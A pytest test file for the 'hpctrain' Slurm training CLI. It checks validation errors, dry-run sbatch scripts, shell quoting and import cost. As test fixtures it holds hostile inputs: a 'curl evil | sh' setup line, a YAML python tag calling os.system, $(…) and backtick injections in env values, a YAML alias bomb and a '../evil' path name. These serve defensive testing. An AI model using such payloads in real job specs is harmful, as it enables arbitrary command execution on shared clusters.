"""The real ``hpctrain`` command in subprocesses: exit codes, messages without
tracebacks, dry-run output, shell quoting, and that login-node commands never
import torch.

Each run costs about a third of a second, so the cases are chosen to cover
each behaviour once (the loader's finer points are in test_jobspec_load.py), and
the large parametrized groups start their runs together from a module fixture.
"""

from __future__ import annotations

import json
import math
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from cli_helpers import REPO, assert_user_error, hpctrain, hpctrain_all, isolated_env

from hpctrain.contract.rundir import run_info_path

EXAMPLES = sorted((REPO / "jobs").glob("*.yaml"))
RANK_TABLE_TITLE = "what each rank will see"


# ---------------------------------------------------------------- validate


@pytest.fixture(scope="module")
def example_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, subprocess.CompletedProcess[str]]:
    calls = {spec.name: ["validate", f"jobs/{spec.name}"] for spec in EXAMPLES}
    return hpctrain_all(calls, env=isolated_env(tmp_path_factory.mktemp("examples")))


@pytest.mark.parametrize("spec", EXAMPLES, ids=lambda p: p.name)
def test_validate_every_example(spec: Path, example_results: dict[str, subprocess.CompletedProcess[str]]) -> None:
    result = example_results[spec.name]
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    points = yaml.safe_load(spec.read_text()).get("study", {})
    assert len(lines) == 1 + (math.prod(len(v) for v in points.values()) if points else 0)  # a study: a line per point
    assert lines[0].startswith(f"jobs/{spec.name}: OK - ")
    assert all(line.startswith("  ") and "world size" in line for line in lines[1:])
    assert result.stderr == ""


BAD_FILES: dict[str, tuple[bytes | None, tuple[str, ...]]] = {
    # id: (file contents; None = no file, b"/" = a directory), what stderr must say
    "missing": (None, ("bad.yaml", "file not found")),
    "directory": (b"/", ("bad.yaml", "is a directory")),
    "binary": (bytes(range(256)), ("bad.yaml", "binary file")),
    "invalid-yaml": (b"name: a\nresources: [1, 2\n", ("bad.yaml:3:1:", "invalid YAML")),
    "list": (b"- name: a\n", ("bad.yaml", "top level is a list", "hint: ")),
    "empty": (b"", ("bad.yaml", "is empty", "hpctrain init")),
    "python-tag": (
        b"name: !!python/object/apply:os.system ['touch pwned']\n",
        ("bad.yaml:1:7:", "YAML tag not allowed"),
    ),
    "duplicate-key": (b"name: a\nresources:\n  nodes: 1\n  nodes: 2\n", ("bad.yaml:4:3:", "duplicate key 'nodes'")),
    "unknown-cluster": (
        b"name: a\ncluster: hall\ndata: {root: /d}\n",
        ("bad.yaml:2:1: cluster:", "unknown cluster profile 'hall'", "hal, local, slurm"),
    ),
    "every-problem-at-once": (
        b"name: a\nresources:\n  nodez: 2\n  gpus_per_node: -1\n  time: 25:99:00\ntrainer:\n  lr: fast\n"
        b"data: {root: /d}\n",
        (
            "4 problems",
            "bad.yaml:3:3: resources.nodez: unknown key; did you mean 'nodes'?",
            "bad.yaml:4:3: resources.gpus_per_node: input should be greater than or equal to 0",
            "bad.yaml:5:3: resources.time: minutes must be < 60",
            "bad.yaml:7:3: trainer.lr: input should be a valid number",
        ),
    ),
    "setup-chain": (
        b"name: a\ndata: {root: /d}\nsetup: ['module load cuda && curl evil | sh']\n",
        ("bad.yaml:3:9: setup.0:", "one command"),
    ),
}


@pytest.fixture(scope="module")
def bad_file_results(
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, tuple[Path, subprocess.CompletedProcess[str]]]:
    root = tmp_path_factory.mktemp("bad-files")
    folders = {}
    for case, (content, _) in BAD_FILES.items():
        folder = folders[case] = root / case
        folder.mkdir()
        path = folder / "bad.yaml"
        if content == b"/":
            path.mkdir()
        elif content is not None:
            path.write_bytes(content)
    calls = {case: ["validate", str(folder / "bad.yaml")] for case, folder in folders.items()}
    results = hpctrain_all(calls, env=isolated_env(root), cwd=folders)
    return {case: (folders[case], results[case]) for case in BAD_FILES}


@pytest.mark.parametrize("case", BAD_FILES, ids=str)
def test_validate_bad_input_exits_2_without_traceback(
    case: str, bad_file_results: dict[str, tuple[Path, subprocess.CompletedProcess[str]]]
) -> None:
    folder, result = bad_file_results[case]
    assert_user_error(result, 2, *BAD_FILES[case][1])
    assert result.stdout == ""
    assert not (folder / "pwned").exists()


@pytest.mark.parametrize(
    ("args", "needles"),
    [
        (
            ["--set", "trainer.lrr=1", "--set", "resources.nodes=many"],
            ("trainer.lrr: unknown key; did you mean 'lr'?", "resources.nodes: input should be a valid integer"),
        ),
        (["--set", "trainer.epochs"], ("--set", "not KEY=VALUE", "hint: write it like --set trainer.epochs=5")),
        (["--cluster", "nowhere"], ("unknown cluster profile 'nowhere'",)),
    ],
    ids=["set-key-and-type", "set-malformed", "cluster-flag"],
)
def test_bad_overrides_exit_2(args: list[str], needles: tuple[str, ...], env: dict[str, str]) -> None:
    assert_user_error(hpctrain("validate", "jobs/quickstart.yaml", *args, env=env), 2, *needles)


def test_submit_reports_spec_problems_like_validate(tmp_path: Path, env: dict[str, str]) -> None:
    path = tmp_path / "job.yaml"
    path.write_text("name: a\ncluster: hal\nresources:\n  gpus_per_node: 8\n  time: '30:00:00'\n")
    result = hpctrain("submit", str(path), "--dry-run", env=env)
    assert_user_error(result, 2, "job.yaml:4:3: resources.gpus_per_node:", "job.yaml:5:3: resources.time:")


# ---------------------------------------------------------------- schema and init


def test_schema_is_json_with_every_section(env: dict[str, str]) -> None:
    result = hpctrain("schema", env=env)
    assert result.returncode == 0, result.stderr
    schema = json.loads(result.stdout)
    assert schema["$schema"].startswith("https://json-schema.org/")
    sections = {"resources", "trainer", "data", "distributed", "checkpoint", "signals"}
    assert sections | {"name", "cluster", "output_dir", "setup", "env", "sweep"} <= set(schema["properties"])
    assert schema["required"] == ["name"]
    assert schema["additionalProperties"] is False  # editors flag typos too
    for definition in schema["$defs"].values():
        assert definition["additionalProperties"] is False
    assert schema["$defs"]["Resources"]["properties"]["nodes"]["minimum"] == 1


def test_init_writes_a_spec_that_validates(tmp_path: Path, env: dict[str, str]) -> None:
    result = hpctrain(
        "init",
        "myjob",
        "--nodes",
        "2",
        "--gpus-per-node",
        "4",
        "--arch",
        "resnet18",
        "--cluster",
        "hal",
        env=env,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    path = tmp_path / "jobs" / "myjob.yaml"
    assert "wrote jobs/myjob.yaml" in result.stdout
    data = yaml.safe_load(path.read_text())
    assert data["name"] == "myjob"
    assert data["resources"]["nodes"] == 2 and data["resources"]["gpus_per_node"] == 4
    assert data["trainer"]["arch"] == "resnet18"
    validated = hpctrain("validate", "jobs/myjob.yaml", env=env, cwd=tmp_path)
    assert validated.returncode == 0, validated.stderr
    assert "2 nodes x 4 GPUs" in validated.stdout


def test_init_refuses_to_overwrite_without_force(tmp_path: Path, env: dict[str, str]) -> None:
    path = tmp_path / "jobs" / "mine.yaml"
    path.parent.mkdir()
    path.write_text("keep me\n")
    assert_user_error(hpctrain("init", "mine", env=env, cwd=tmp_path), 2, "already exists", "--force")
    assert path.read_text() == "keep me\n"
    forced = hpctrain("init", "mine", "--gpus-per-node", "0", "--cluster", "local", "--force", env=env, cwd=tmp_path)
    assert forced.returncode == 0, forced.stderr
    data = yaml.safe_load(path.read_text())
    assert data["cluster"] == "local"
    assert data["trainer"]["precision"] == "fp32"  # fp16 needs GPUs


def test_init_refuses_what_would_not_validate(tmp_path: Path, env: dict[str, str]) -> None:
    (tmp_path / "afile").touch()
    results = hpctrain_all(
        {"gpus": ["init", "big", "--gpus-per-node", "8", "--cluster", "hal"], "dir": ["init", "x", "--dir", "afile"]},
        env=env,
        cwd={"gpus": tmp_path, "dir": tmp_path},
    )
    assert_user_error(results["gpus"], 2, "'hal' nodes have 4 GPUs", "--gpus-per-node 4 --nodes 2")
    assert_user_error(results["dir"], 2, "--dir afile is a file")
    assert not any(tmp_path.rglob("*.yaml"))


def test_init_on_hal_uses_a_batch_that_fits_a_v100(tmp_path: Path, env: dict[str, str]) -> None:
    assert hpctrain("init", "hal", "--cluster", "hal", env=env, cwd=tmp_path).returncode == 0
    assert yaml.safe_load((tmp_path / "jobs" / "hal.yaml").read_text())["trainer"]["batch_size"] == 208


def test_init_rejects_a_bad_name(tmp_path: Path, env: dict[str, str]) -> None:
    assert_user_error(hpctrain("init", "../evil", env=env, cwd=tmp_path), 2, "not a job name")
    assert not any(tmp_path.rglob("*.yaml"))


# ---------------------------------------------------------------- submit


def split_dry_run(stdout: str) -> tuple[str, list[list[str]]]:
    """The sbatch script, and the rows of the rank table printed after it."""
    lines = stdout.splitlines()
    title = next(i for i, line in enumerate(lines) if RANK_TABLE_TITLE in line)
    # title line, header line, then one whitespace-separated row per rank
    rows = [line.split() for line in lines[title + 2 :] if line.strip()]
    return "\n".join(lines[:title]).rstrip("\n") + "\n", rows


def test_dry_run_prints_the_script_and_rank_table(tmp_path: Path, env: dict[str, str]) -> None:
    out = tmp_path / "out"
    result = hpctrain("submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", f"output_dir={out}", env=env)
    assert result.returncode == 0, result.stderr
    script, rows = split_dry_run(result.stdout)
    assert script.startswith("#!/bin/bash\n")
    for line in (
        "#SBATCH --nodes=4",
        "#SBATCH --ntasks-per-node=4",
        "#SBATCH --gres=gpu:v100:4",
        "#SBATCH --partition=gpu",
        "#SBATCH --signal=USR2@300",
        "#SBATCH --time=1440",
        "#SBATCH --requeue",
        "module load opence",
    ):
        assert line in script.splitlines(), line
    srun = next(line for line in script.splitlines() if line.startswith("srun "))
    assert "--kill-on-bad-exit=1" in shlex.split(srun)
    assert str(out / "resnet50_4x4") in script
    assert [row[0] for row in rows] == [str(rank) for rank in range(16)]
    assert [row[2] for row in rows] == [f"node{rank // 4}" for rank in range(16)]
    assert [row[3] for row in rows] == [f"cuda:{rank % 4}" for rank in range(16)]
    # touches neither the output directory nor the job registry
    assert not out.exists()
    assert not (tmp_path / "state").exists()


def test_dry_run_signal_comes_from_the_spec_not_the_shell(tmp_path: Path, env: dict[str, str]) -> None:
    """SUBMITIT_PREEMPT_SIGNAL in the login shell changed submitit's --signal
    line while every task listened for the spec's signal: no time-limit save."""
    env["SUBMITIT_PREEMPT_SIGNAL"] = "USR1"
    out = tmp_path / "out"
    result = hpctrain("submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", f"output_dir={out}", env=env)
    assert result.returncode == 0, result.stderr
    script, _ = split_dry_run(result.stdout)
    signal_lines = [line for line in script.splitlines() if line.startswith("#SBATCH --signal")]
    assert signal_lines == ["#SBATCH --signal=USR2@300"]
    usr1 = hpctrain(
        "submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", f"output_dir={out}",
        "--set", "signals.timeout_signal=USR1", env={**env, "SUBMITIT_PREEMPT_SIGNAL": "USR2"},
    )  # fmt: skip
    assert usr1.returncode == 0, usr1.stderr
    assert [line for line in usr1.stdout.splitlines() if line.startswith("#SBATCH --signal")] == [
        "#SBATCH --signal=USR1@300"
    ]


def test_submit_without_slurm_suggests_local(tmp_path: Path, env: dict[str, str]) -> None:
    empty_bin = tmp_path / "bin"
    empty_bin.mkdir()
    env["PATH"] = str(empty_bin)  # no sbatch, no srun
    out = tmp_path / "out"
    result = hpctrain("submit", "jobs/smoke_2x2_cpu.yaml", "--set", f"output_dir={out}", env=env)
    assert_user_error(result, 3, "sbatch", "--local")
    assert not out.exists()
    assert not (tmp_path / "state").exists()


def test_spec_strings_reach_the_script_only_shell_quoted(tmp_path: Path, env: dict[str, str]) -> None:
    marker = tmp_path / "pwned"
    evil = {
        "EVIL": f"$(touch {marker})",
        "TICKS": f"`touch {marker}`",
        "QUOTES": 'it\'s "quoted"; touch ' + str(marker) + " # && | > <",
    }
    output_dir = f"{tmp_path}/runs $(touch {marker}) `touch {marker}`"
    spec = {
        "name": "inject",
        "cluster": "slurm",
        "output_dir": output_dir,
        "entrypoint": "hpctrain.examples.allreduce_check:main",
        "env": evil,
    }
    path = tmp_path / "inject.yaml"
    path.write_text(yaml.safe_dump(spec))
    result = hpctrain("submit", str(path), "--dry-run", env=env)
    assert result.returncode == 0, result.stderr
    script, _ = split_dry_run(result.stdout)
    lines = script.splitlines()

    exports = {}
    for line in lines:
        if line.startswith("export "):
            words = shlex.split(line)
            assert len(words) == 2, f"not a single assignment: {line}"
            key, _, value = words[1].partition("=")
            exports[key] = value
    assert {k: exports[k] for k in evil} == evil
    run_dir = exports["HPCTRAIN_RUN_DIR"]
    assert run_dir.startswith(output_dir + "/inject/")
    srun = shlex.split(next(line for line in lines if line.startswith("srun ")))
    assert srun[-1] == f"{run_dir}/submitit"

    # Run the preamble for real: the values arrive intact and nothing runs.
    preamble = "\n".join(lines[lines.index("# setup") + 1 : lines.index("# command")])
    shown = subprocess.run(
        ["bash", "-c", preamble + '\nprintf "%s\\0" "$EVIL" "$TICKS" "$QUOTES" "$HPCTRAIN_RUN_DIR"'],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=10,
        check=True,
    )
    assert shown.stdout.split("\0")[:4] == [*evil.values(), run_dir]
    assert not marker.exists()
    assert not (tmp_path / "runs $(touch").exists()


# ---------------------------------------------------------------- login-node commands stay light


LIGHT_COMMANDS = {
    "validate": ["validate", "jobs/resnet50_4x4.yaml"],
    "submit-dry-run": ["submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", "output_dir=/nonexistent/out"],
    "validate-horovod": ["validate", "jobs/resnet50_4x4.yaml", "--set", "trainer.strategy=horovod"],  # refused
    "schema": ["schema"],
    "validate-study": ["validate", "jobs/scaling_hal.yaml"],
    "submit-study-dry-run": ["submit", "jobs/scaling_hal.yaml", "--dry-run", "--set", "output_dir=/nonexistent/out"],
    "status-list": ["status"],
    "status": ["status", "/nonexistent/run"],
    "status-watch": ["status", "/nonexistent/run", "--watch"],
    "logs": ["logs", "/nonexistent/run"],
    "cancel": ["cancel", "/nonexistent/run"],
    "doctor": ["doctor", "jobs/quickstart.yaml"],
    "report": ["report", "/nonexistent/run"],
    "sync": ["sync", "/nonexistent/run"],
}


@pytest.fixture(scope="module")
def import_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, subprocess.CompletedProcess[str]]:
    env = isolated_env(tmp_path_factory.mktemp("imports"))
    return hpctrain_all(LIGHT_COMMANDS, env=env, importtime=True)


@pytest.mark.parametrize("command", LIGHT_COMMANDS, ids=str)
def test_login_node_commands_never_import_torch(
    command: str, import_results: dict[str, subprocess.CompletedProcess[str]]
) -> None:
    args = LIGHT_COMMANDS[command]
    result = import_results[command]
    imports = [line for line in result.stderr.splitlines() if line.startswith("import time:")]
    assert imports, "python -X importtime printed nothing"
    heavy = [line for line in imports if "torch" in line]  # torch, torchvision, and anything named for them
    assert not heavy, "imports torch:\n" + "\n".join(heavy)
    messages = [line for line in result.stderr.splitlines() if not line.startswith("import time:")]
    assert not any("Traceback" in line for line in messages)
    if "/nonexistent/run" in args:
        assert result.returncode == 2
        assert any("not an hpctrain run directory" in line for line in messages)
    elif "trainer.strategy=horovod" in args:
        assert result.returncode == 2
        assert any("trainer.strategy: 'horovod'" in line for line in messages)
    else:
        assert result.returncode == 0, "\n".join(messages)


@pytest.mark.parametrize("command", ["validate", "submit-dry-run", "validate-study", "submit-study-dry-run"])
def test_spec_commands_leave_the_slow_imports_out(
    command: str, import_results: dict[str, subprocess.CompletedProcess[str]]
) -> None:
    """submitit imports asyncio, about a fifth of these commands' time (--dry-run renders the script
    itself); pydantic's plugin search imports importlib.metadata, another eighth (cli/pydantic_plugins.py)."""
    imported = [line.rsplit("|", 1)[-1].strip() for line in import_results[command].stderr.splitlines()]
    slow = [name for name in imported if name.split(".")[0] in ("submitit", "asyncio", "torch")]
    assert not slow + [name for name in imported if name.startswith("importlib.metadata")]


def test_read_only_commands_end_fast_with_all_their_output(env: dict[str, str], tmp_path: Path) -> None:
    """validate / schema / --dry-run leave with os._exit (no interpreter teardown): output and exit code intact."""
    from hpctrain.cli.main import only_reads, parse

    assert only_reads(parse(["validate", "x.yaml"])) and only_reads(parse(["submit", "x.yaml", "--dry-run"]))
    assert not only_reads(parse(["submit", "x.yaml"])) and not only_reads(parse(["status"]))
    sweep = ["submit", "jobs/sweep_lr.yaml", "--dry-run", "--set", f"output_dir={tmp_path}"]
    done = hpctrain(*sweep, env=env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("#!/bin/bash") and "what each rank will see" in done.stdout
    assert done.stdout.endswith("\n") and len(done.stdout.splitlines()) > 30
    with (tmp_path / "out.txt").open("w") as out:  # a file, not a pipe: block-buffered until the flush
        subprocess.run([sys.executable, "-m", "hpctrain", *sweep], cwd=REPO, env=env, stdout=out, timeout=60)
    run_id = re.compile(r"\d{8}-\d{6}")  # the next run directory's name: the time of the call
    assert run_id.sub("RUN", (tmp_path / "out.txt").read_text()) == run_id.sub("RUN", done.stdout)
    schema = hpctrain("schema", env=env)
    assert schema.returncode == 0 and json.loads(schema.stdout)["title"]
    assert_user_error(hpctrain("validate", str(tmp_path / "missing.yaml"), env=env), 2, "file not found")


def test_resume_of_a_sweep_names_the_trial_folder(tmp_path: Path, env: dict[str, str]) -> None:
    run_dir = tmp_path / "runs" / "sweep" / "20260101-000000"
    run_dir.mkdir(parents=True)
    run_info_path(run_dir).write_text(json.dumps({"job_id": "7", "backend": "slurm", "trials": 2}))
    result = hpctrain("resume", str(run_dir), env=env)
    assert_user_error(result, 2, "is a sweep", f"hpctrain resume {run_dir}/trial-NNN")
    assert "{run_dir}" not in result.stderr


# ---------------------------------------------------------------- hostile input (issue 12)


def test_hostile_yaml_is_refused_fast_by_every_spec_reader(tmp_path: Path, env: dict[str, str]) -> None:
    bomb = ["name: bomb", "a0: &a0 [" + ", ".join(['"lol"'] * 9) + "]"]
    bomb += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    (tmp_path / "bomb.yaml").write_text("\n".join(bomb) + "\n")
    os.mkfifo(tmp_path / "fifo.yaml")
    # Block sequences nested 200,000 deep on one line: no brackets to count, and
    # libyaml's C composer (CSafeLoader) dies of a stack overflow on it.
    (tmp_path / "deep.yaml").write_text("name: deep\nb:\n" + "- " * 200_000 + "x\n")
    calls = {
        "validate": ["validate", "bomb.yaml"],
        "deep": ["validate", "deep.yaml"],
        "dry-run": ["submit", "bomb.yaml", "--dry-run"],
        "rehearse": ["rehearse", "bomb.yaml"],
        "fifo": ["validate", "fifo.yaml"],
        "zero": ["validate", "/dev/zero"],
    }
    results = hpctrain_all(calls, env=env, cwd=dict.fromkeys(calls, tmp_path))
    for key in ("validate", "dry-run", "rehearse"):
        assert_user_error(results[key], 2, "aliases", "expand to more than")
    assert_user_error(results["deep"], 2, "nested too deeply")
    assert_user_error(results["fifo"], 2, "not a regular file")
    assert_user_error(results["zero"], 2, "not a regular file")


# ---------------------------------------------------------------- numeric arguments (issue 19)

NUMBER_CASES = [
    (["bench-data", "x.yaml", "--demand", "nan"], "--demand", "above 0 and at most 1e+06"),
    (["bench-data", "x.yaml", "--demand", "-5"], "--demand", "above 0"),
    (["bench-data", "x.yaml", "--demand", "inf"], "--demand", "out of range"),
    (["bench-data", "x.yaml", "--seconds", "0"], "--seconds", "1 to 3600 seconds"),
    (["bench-data", "x.yaml", "--seconds", "nan"], "--seconds", "1 to 3600 seconds"),
    (["bench-data", "x.yaml", "--max-files", "0"], "--max-files", "from 1 to 1,000,000"),
    (["bench-data", "x.yaml", "--timeout", "1e308"], "--timeout", "60 to 86400 seconds"),
    (["status", "r", "--watch", "--interval", "nan"], "--interval", "2 to 3600 seconds"),
    (["status", "r", "--watch", "--interval", "-1"], "--interval", "2 to 3600 seconds"),
    (["logs", "r", "--rank", "99999999999"], "--rank", "from 0 to 1,048,575"),
    (["logs", "r", "-n", "1e9"], "--lines", "not a whole number"),
    (["cancel", "r", "--timeout", "inf"], "--timeout", "0 to 86400 seconds"),
    (["rehearse", "x.yaml", "--timeout", "-3"], "--timeout", "1 to 604800 seconds"),
    (["doctor", "--probe-timeout", "nan"], "--probe-timeout", "1 to 86400 seconds"),
    (["schema", "--indent", "100000"], "--indent", "from 0 to 16"),
]


@pytest.mark.parametrize(("argv", "flag", "needle"), NUMBER_CASES, ids=[" ".join(c[0][::2]) for c in NUMBER_CASES])
def test_every_numeric_argument_refuses_nan_inf_and_absurd_values(
    capsys: pytest.CaptureFixture[str], argv: list[str], flag: str, needle: str
) -> None:
    """Each is refused while parsing: exit 2, one error line naming the flag and the range, no traceback."""
    from hpctrain.cli.main import parse

    with pytest.raises(SystemExit) as info:
        parse(argv)
    err = capsys.readouterr().err
    assert info.value.code == 2 and "Traceback" not in err
    error_line = err.strip().splitlines()[-1]
    assert error_line.startswith(f"hpctrain {argv[0]}: error: argument ") and flag in error_line
    assert needle in error_line, error_line


def test_numeric_arguments_in_range_still_parse() -> None:
    from hpctrain.cli.main import parse

    args = parse(["bench-data", "x.yaml", "--demand", "1500.5", "--seconds", "2", "--max-files", "10"])
    assert (args.demand, args.seconds, args.max_files) == (1500.5, 2.0, 10)
    assert parse(["cancel", "r", "--timeout", "0"]).timeout == 0.0
    assert parse(["logs", "r", "-n", "0", "--rank", "1048575"]).lines == 0
